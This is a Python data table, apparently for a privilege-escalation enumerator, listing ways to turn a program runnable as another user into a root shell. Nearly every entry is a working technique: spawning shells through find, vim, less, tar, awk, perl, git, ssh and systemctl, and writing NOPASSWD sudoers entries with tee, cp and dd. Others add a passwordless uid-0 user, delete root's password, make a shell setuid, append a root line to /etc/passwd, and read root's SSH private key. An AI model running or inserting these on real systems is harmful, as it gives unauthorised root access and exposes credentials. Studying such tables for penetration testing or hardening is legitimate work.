"""Ways from a program that one may run as somebody to a shell of this somebody: the table the enumerator tries. Text with %s: where the order goes.

The order is a shell command line that leaves a mark; each way gets it as a script's path (%(script)s) or runs /bin/sh. An entry is (input, argv...)."""

SCRIPT, MARK = "%(script)s", "%(mark)s"
WAYS = {
    "bash": [("%(order)s\n", "bash"), ("", "bash", "-c", SCRIPT)],
    "dash": [("%(order)s\n", "dash"), ("", "dash", "-c", SCRIPT)],
    "sh": [("%(order)s\n", "sh"), ("", "sh", "-c", SCRIPT)],
    "find": [("", "find", "/etc/hostname", "-exec", SCRIPT, ";"), ("", "find", "/etc/hostname", "-maxdepth", "0", "-fprintf", "/etc/sudoers.d/zz-way", "%(me)s ALL=(ALL) NOPASSWD: ALL\\n"),
             ("", "find", "/var/log", "-name", "app.log")],
    "vim": [("", "TTY", "vim", "/etc/motd", ":!%(script)s\r:q!\r"), ("", "TTY", "vim", "/etc/db.conf", ":!%(script)s\r:q!\r"), ("", "vim", "-es", "-c", "!%(script)s", "-c", "q!", "/etc/motd")],
    "tee": [("%(me)s ALL=(ALL) NOPASSWD: ALL\n", "tee", "-a", "/etc/sudoers.d/zz-extra"), ("%(me)s ALL=(ALL) NOPASSWD: ALL\n", "tee", "/etc/sudoers.d/zz-way"),
            ("hello\n", "tee", "/etc/motd"), ("%(me)s ALL=(ALL) NOPASSWD: ALL\n", "tee", "/etc/motd", "/etc/sudoers.d/zz-way")],
    "env": [("", "env", SCRIPT)],
    "tar": [("", "tar", "-cf", "/var/backup.tar", "/etc/hostname", "--checkpoint=1", "--checkpoint-action=exec=%(script)s"), ("", "tar", "-cf", "/dev/null", "/etc/hostname", "-I", SCRIPT)],
    "less": [("", "TTY", "less", "/var/log/app.log", "!%(script)s\r\rq"), ("%(me)s ALL=(ALL) NOPASSWD: ALL\n", "less", "-o/etc/sudoers.d/zz-way")],
    "awk": [("", "awk", "BEGIN{system(\"%(script)s\")}")],
    "perl": [("", "perl", "-e", "system(\"%(script)s\")")],
    "cp": [("", "cp", "%(sudoers)s", "/etc/sudoers.d/zz-way"), ("", "cp", "/var/log/app.log", "/srv/copy.log")],
    "dd": [("", "dd", "if=%(sudoers)s", "of=/etc/sudoers.d/zz-way")],
    "chmod": [("", "chmod", "4755", "%(shell)s"), ("", "chmod", "777", "/etc/cron.d")],
    "mount": [("", "mount", "--bind", "%(folder)s", "/etc/sudoers.d")],
    "useradd": [("", "useradd", "-o", "-u", "0", "-M", "-s", "/bin/sh", "-p", "", "zzway")],
    "passwd": [("", "passwd", "-d", "root")],
    "ssh": [("", "ssh", "-o", "ProxyCommand=%(script)s", "nowhere")],
    "git": [("", "git", "-c", "alias.x=!%(script)s", "x")],
    "su": [("%(order)s\n", "su", "-", "worker"), ("%(order)s\n", "su", "-", "root"), ("%(order)s\n", "su")],
    "xargs": [("%(script)s\n", "xargs", "env")],
    "id": [("", "id"), ("", "id", SCRIPT)],
    "whoami": [("", "whoami")],
    "systemctl": [("", "systemctl", "restart", "nginx"), ("", "TTY", "systemctl", "status", "nginx", "!%(script)s\r\rq"), ("", "systemctl", "link", SCRIPT)],
    "cat": [("", "cat", "/var/log/app.log"), ("", "cat", "/var/log/../../root/.ssh/id_ed25519"), ("", "cat", "/root/.ssh/id_ed25519")],
    "sudoedit": [("", "EDIT", "/etc/sudoers.d/zz-edit"), ("", "EDIT", "/etc/motd"), ("", "EDIT", "/etc/sudoers.d/zz-way")],
}
# What a setuid program or one with capabilities gives: argv behind the program's path, by what it is a copy of (seen by running it).
SETUID = [("-p", "-c", SCRIPT), ("-c", "import os;os.setresuid(0,0,0);os.system('%(script)s')"), ("/etc/hostname", "-exec", SCRIPT, ";")]
# A file that others may write: what one writes so that who runs or reads it runs the order.
READERS = [("/etc/passwd", "zzway::0:0::/root:/bin/sh\n"), ("/etc/sudoers", "%(me)s ALL=(ALL) NOPASSWD: ALL\n"), ("/etc/sudoers.d/zz-way", "%(me)s ALL=(ALL) NOPASSWD: ALL\n")]
